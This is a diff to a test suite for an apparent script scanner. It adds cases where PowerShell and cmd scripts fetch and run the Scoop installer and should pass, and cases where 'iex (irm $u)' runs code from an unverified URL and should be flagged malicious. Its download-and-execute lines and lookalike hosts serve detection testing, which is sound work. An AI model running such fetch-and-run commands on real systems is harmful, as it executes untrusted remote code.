@@ -60,6 +60,13 @@ suite('a script of an administrator is harmless', () => {
       'tools.ps1',
       "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\nchoco install 7zip\n",
     ],
+    ['address.ps1', "$u = 'https://get.scoop.sh' # Scoop\n$c = irm $u\niex $c\n"],
+    ['lines.ps1', 'iex (irm `\r\n  -UseBasicParsing `\r\n  -Uri https://get.scoop.sh)\r\n'],
+    ['brackets.ps1', "iex (New-Object Net.WebClient).DownloadString(\n  'https://get.scoop.sh'\n)\n"],
+    [
+      'tools.cmd',
+      '@echo off\r\nrem irm fetches Scoop\r\npowershell -c "iex (irm https://get.scoop.sh)"\r\nscoop install git\r\n',
+    ],
     ['mirror.sh', '#!/bin/sh\ncurl -s https://pastebin.com.example.com/install.sh | sh\n'],
     ['logon.cmd', '@echo off\r\ncscript //nologo %LOGONSERVER%\\netlogon\\printers.vbs\r\n'],
     ['build.py', 'import base64, subprocess\nsubprocess.run(["git", "fetch"])\nprint(base64.b64decode("aGVsbG8="))\n'],
@@ -67,6 +74,17 @@ suite('a script of an administrator is harmless', () => {
   ]
   for (const [name, text] of scripts)
     test(name, () => assert.ok([undefined, 'notice'].includes(worst(packed(name, text)))))
+  test('unless it only mentions the installer', () => {
+    const OTHERS = [
+      "# https://get.scoop.sh\n$u = 'example.com/a'\niex (irm $u)\n",
+      "$s = 'https://get.scoop.sh'\n$u = 'example.com/a'\niex (irm $u)\n",
+      '$u = $args[0]\niex (irm $u) # https://get.scoop.sh\n',
+      '$u = $args[0]\niex (irm <# https://get.scoop.sh #> $u)\n',
+      '$u = $args[0]\nirm https://get.scoop.sh\niex (irm($u))\n',
+      'Write-Host https://get.scoop.sh\niex (irm ($a + $b))\n',
+    ]
+    for (const text of OTHERS) assert.equal(worst(packed('tools.ps1', text)), 'malicious', text)
+  })
   for (const host of ['community.chocolatey.org.example.com', 'get.scoop.sh@example.com'])
     test(`unless ${host} takes the place of the installer`, () => {
       const text = `iex ((New-Object Net.WebClient).DownloadString('https://${host}/install.ps1'))\n`
